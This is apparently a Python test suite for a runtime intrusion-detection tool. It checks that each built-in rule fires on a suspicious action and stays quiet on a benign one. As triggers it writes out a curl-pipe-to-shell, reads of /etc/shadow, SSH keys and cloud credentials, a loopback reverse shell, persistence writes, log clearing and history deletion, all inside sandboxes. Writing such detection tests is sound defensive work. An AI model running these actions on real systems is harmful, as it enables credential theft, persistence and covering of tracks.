#!/usr/bin/env python3
"""Every rule inside the program: one real action that it describes, and one like it that it must not mind."""
import os
import pathlib
import re
import unittest

import harness
from harness import TestCase, needs_root, run

PYTHON = harness.PYTHON
SYSCALL = "import ctypes; call = ctypes.CDLL(None, use_errno=True).syscall\n"


def python(code: str) -> list[str]:
    return [PYTHON, "-c", code]


def connect(address: str, port: int) -> list[str]:
    return python(f"import socket\nlistener = socket.create_server(('{address}', {port}))\n"
                  f"socket.create_connection(('{address}', {port}))")


def tmpfs(*directories: str) -> list[str]:
    mounts = " && ".join(f"mount -t tmpfs none {directory}" for directory in directories)
    return ["unshare", "--mount", "sh", "-c", mounts + ' && exec "$@"', "sh"]


@needs_root
class Builtin(TestCase):
    def fires(self, rule: str, command: list[str], **keywords) -> dict:
        return self.assert_alert(self.watch(command, **keywords), rule)

    @staticmethod
    def watch(command: list[str], **keywords):
        # The test's own programs lie in /tmp, which a rule minds, too.
        return run(command, options=["-o", "rule_matching=all"], **keywords)

    def silent(self, rule: str, command: list[str], **keywords) -> None:
        self.assertNotIn(rule, self.watch(command, **keywords).rules())

    def server(self, code: str, name: str = "nginx") -> list[str]:
        return [self.named(name, "/bin/bash"), "-c", code + "; true"]

    def test_shell_started_by_a_server(self):
        rule = "Shell started by a server"
        self.fires(rule, self.server("sh -c true"))
        self.silent(rule, ["bash", "-c", "sh -c true; true"])

    def test_interpreter_started_by_a_server(self):
        rule = "Interpreter started by a server"
        self.fires(rule, self.server(f"{self.named('curl')} http://a.test"))
        self.silent(rule, ["bash", "-c", f"{self.named('curl')} http://a.test; true"])

    def test_package_manager(self):
        rule = "Package manager run"
        self.fires(rule, [self.named("apk"), "add", "nmap"])
        self.fires(rule, [self.named("pip"), "install", "requests"])
        self.silent(rule, [self.named("npm"), "start"])

    def test_download_handed_to_a_shell(self):
        rule = "Download handed to a shell"
        self.fires(rule, ["sh", "-c", "false && curl http://a.test/x | sh; true"])
        self.silent(rule, ["sh", "-c", "false && curl http://a.test/x > /dev/null; true"])

    def test_temporary_directory(self):
        rule = "Program run from a temporary directory"
        program = f"/tmp/bewit-test-{os.getpid()}"
        self.addCleanup(lambda: os.path.exists(program) and os.remove(program))
        self.fires(rule, ["sh", "-c", f"cp /bin/true {program}; {program}"])
        self.silent(rule, ["sh", "-c", "cp /bin/true /tmp/copied-only-by-a-test; rm /tmp/copied-only-by-a-test"])

    def test_shared_memory(self):
        rule = "Program run from shared memory"
        program = f"/dev/shm/bewit-test-{os.getpid()}"
        self.addCleanup(lambda: os.path.exists(program) and os.remove(program))
        self.fires(rule, ["sh", "-c", f"cp /bin/true {program}; {program}"])
        self.silent(rule, ["sh", "-c", f"cp /bin/true {program}"])

    def test_memory_only(self):
        rule = "Program run from memory only"
        load = "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/bin/true', 'rb').read())\n"
        self.fires(rule, python(load + "os.execv(f'/proc/self/fd/{fd}', ['x'])"))
        self.silent(rule, python(load))

    def test_program_not_of_the_image(self):
        rule = "Program that is not of the image"
        script = f"""
            mount -t tmpfs none {self.directory} && cd {self.directory} && mkdir upper work root &&
            mount -t overlay -o lowerdir=/,upperdir=upper,workdir=work none root && mount -t proc none root/proc && exec chroot root "$@"
        """
        prefix = ["unshare", "--mount", "--pid", "--fork", "sh", "-c", script, "sh"]
        self.fires(rule, ["sh", "-c", "sleep 0.1; cp /bin/true /opt/dropped; /opt/dropped; true"], prefix=prefix)
        self.silent(rule, ["sh", "-c", "sleep 0.1; true; ls /opt"], prefix=prefix)

    def test_miner_started(self):
        rule = "Miner started"
        self.fires(rule, [self.named("worker"), "-o", "stratum+tcp://pool.test:3333"])
        self.silent(rule, [self.named("worker"), "-o", "tcp://queue.test:3333"])

    def test_write_below_programs(self):
        rule = "Write below a directory of programs"
        self.fires(rule, ["sh", "-c", "echo x > /usr/local/bin/x"], prefix=tmpfs("/usr/local/bin"))
        self.silent(rule, ["sh", "-c", "cat /usr/local/bin/x; echo x > /usr/local/etc/x"], prefix=tmpfs("/usr/local/bin", "/usr/local/etc"))

    def test_file_put_in_programs(self):
        rule = "File put in a directory of programs"
        self.fires(rule, ["sh", "-c", "echo x > /usr/local/x && mkdir /usr/local/bin && mv /usr/local/x /usr/local/bin/y"],
                   prefix=tmpfs("/usr/local"))
        self.silent(rule, ["sh", "-c", "echo x > /usr/local/x && mv /usr/local/x /usr/local/y"], prefix=tmpfs("/usr/local"))

    def test_accounts_and_startup(self):
        rule = "Write to accounts or start-up configuration"
        self.fires(rule, ["sh", "-c", "echo x > /etc/cron.d/x"], prefix=tmpfs("/etc/cron.d"))
        self.silent(rule, ["sh", "-c", "ls /etc/cron.d; cat /etc/passwd > /dev/null"], prefix=tmpfs("/etc/cron.d"))

    def test_ssh_and_shell_files(self):
        rule = "Write to SSH or shell start-up files"
        os.mkdir(self.path(".ssh"))
        self.fires(rule, ["sh", "-c", f"echo key >> {self.path('.ssh/authorized_keys')}"])
        self.fires(rule, ["sh", "-c", f"echo alias >> {self.path('.bashrc')}"])
        self.silent(rule, ["sh", "-c", f"cat {self.path('.bashrc')} 2> /dev/null; echo x > {self.path('.bashrc.txt')}"])

    def test_password_files(self):
        rule = "Read of password files"
        self.fires(rule, ["cat", "/etc/shadow"])
        self.silent(rule, ["cat", "/etc/passwd"])

    def test_ssh_keys(self):
        rule = "Read of SSH keys"
        os.mkdir(self.path(".ssh"))
        for name in ("id_rsa", "id_rsa.pub"):
            pathlib.Path(self.path(".ssh"), name).write_text("key", encoding="utf-8")
        self.fires(rule, ["cat", self.path(".ssh/id_rsa")])
        self.silent(rule, ["cat", self.path(".ssh/id_rsa.pub")])

    def test_cloud_credentials(self):
        rule = "Read of cloud credentials"
        os.mkdir(self.path(".aws"))
        pathlib.Path(self.path(".aws/credentials")).write_text("x", encoding="utf-8")
        self.fires(rule, ["cat", self.path(".aws/credentials")])
        self.silent(rule, [self.named("my-service", "/bin/cat"), self.path(".aws/credentials")])

    def test_kubernetes_credentials(self):
        rule = "Read of Kubernetes credentials"
        os.mkdir(self.path(".kube"))
        pathlib.Path(self.path(".kube/config")).write_text("x", encoding="utf-8")
        self.fires(rule, ["cat", self.path(".kube/config")])
        self.silent(rule, [self.named("my-service", "/bin/cat"), self.path(".kube/config")])

    def test_environment_of_a_process(self):
        rule = "Read of a process's environment"
        self.fires(rule, ["cat", "/proc/self/environ"])
        self.silent(rule, ["cat", "/proc/self/status"])

    def test_instance_metadata(self):
        rule = "Instance metadata service contacted"
        network = harness.namespaces(addresses=("169.254.169.254/32", "169.254.169.253/32"))
        self.fires(rule, connect("169.254.169.254", 80), prefix=network)
        self.silent(rule, connect("169.254.169.253", 80), prefix=network)

    def test_task_credentials(self):
        rule = "Task credentials fetched by hand"
        network = harness.namespaces(addresses=("169.254.170.2/32",))
        by_hand = ("import socket, subprocess\nlistener = socket.create_server(('169.254.170.2', 80))\n"
                   "subprocess.run(['bash', '-c', 'exec 3<>/dev/tcp/169.254.170.2/80'])")
        self.fires(rule, python(by_hand), prefix=network)
        self.silent(rule, connect("169.254.170.2", 80), prefix=network)

    def test_reverse_shell(self):
        rule = "Reverse shell"
        code = ("import os, socket\nlistener = socket.create_server(('127.0.0.1', 0))\n"
                "client = socket.create_connection(listener.getsockname())\nos.dup2(client.fileno(), {})")
        self.fires(rule, python(code.format(0)))
        self.silent(rule, python(code.format(9)))

    def test_shell_on_a_connection(self):
        rule = "Shell on a network connection"
        code = ("import socket, subprocess\nlistener = socket.create_server(('127.0.0.1', 0))\n"
                "client = socket.create_connection(listener.getsockname())\nsubprocess.run(['sh', '-c', 'true'], stdin={})")
        self.fires(rule, python(code.format("client")))
        self.silent(rule, python(code.format("subprocess.DEVNULL")))

    def test_mining_pool(self):
        rule = "Mining pool contacted"
        network = harness.namespaces(addresses=("203.0.113.7/24",))
        self.fires(rule, connect("203.0.113.7", 14444), prefix=network)
        self.silent(rule, connect("203.0.113.7", 443), prefix=network)

    def test_raw_network(self):
        rule = "Raw network access"
        self.fires(rule, python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"))
        self.silent(rule, python("import socket; socket.socket()"))

    def test_setuid_bit(self):
        rule = "Setuid or setgid bit set"
        tool = self.named("tool")
        self.fires(rule, ["chmod", "u+s", tool])
        self.silent(rule, ["chmod", "755", tool])

    def test_traced(self):
        rule = "Another process is traced"
        self.fires(rule, python(SYSCALL + "import os; call(101, 16, os.getppid(), 0, 0)"))
        self.silent(rule, python(SYSCALL + "call(101, 7, 0, 0, 0)"))

    def test_kernel_module(self):
        rule = "Kernel module loaded"
        self.fires(rule, python(SYSCALL + "call(313, -1, b'', 0)"))
        self.silent(rule, python("open('/proc/modules').close()"))

    def test_bpf(self):
        rule = "Program loaded into the kernel"
        self.fires(rule, python(SYSCALL + "call(321, 5, 0, 0)"))
        self.silent(rule, python(SYSCALL + "call(321, 7, 0, 0)"))

    def test_io_uring(self):
        rule = "io_uring set up"
        self.fires(rule, python(SYSCALL + "call(425, 1, 0)"))
        self.silent(rule, python("import select; select.epoll()"))

    def test_io_uring_denied(self):
        result = run(python(SYSCALL + "print(call(425, 1, 0), ctypes.get_errno())"), options=["--io-uring", "deny"])
        self.assertEqual(result.stdout, "-1 38\n")

    def test_mount(self):
        rule = "Mount"
        self.fires(rule, ["mount", "-t", "tmpfs", "none", self.directory], prefix=["unshare", "--mount"])
        self.silent(rule, ["mount"])

    def test_namespace(self):
        rule = "Namespace changed"
        self.fires(rule, ["unshare", "--uts", "true"])
        self.silent(rule, ["readlink", "/proc/self/ns/uts"])

    def test_logs_cleared(self):
        rule = "Logs cleared"
        self.fires(rule, ["sh", "-c", ": > /var/log/x"], prefix=tmpfs("/var/log"))
        self.fires(rule, ["sh", "-c", "echo >> /var/log/y; rm /var/log/y"], prefix=tmpfs("/var/log"))
        self.silent(rule, ["sh", "-c", "echo x >> /var/log/x"], prefix=tmpfs("/var/log"))

    def test_history_removed(self):
        rule = "Shell history removed"
        path = self.path(".bash_history")
        pathlib.Path(path).write_text("x", encoding="utf-8")
        self.fires(rule, ["rm", path])
        self.silent(rule, ["sh", "-c", f"echo ls >> {path}"])


class Coverage(unittest.TestCase):
    def test_every_builtin_rule_is_triggered_by_a_test_above(self):
        text = (harness.SOURCE_ROOT / "injector" / "rules" / "builtin.yaml").read_text(encoding="utf-8")
        rules = set(re.findall(r"^- rule: (.*)$", text, re.MULTILINE))
        tested = pathlib.Path(__file__).read_text(encoding="utf-8")
        self.assertEqual({rule for rule in rules if f'rule = "{rule}"' not in tested}, set())


if __name__ == "__main__":
    unittest.main()
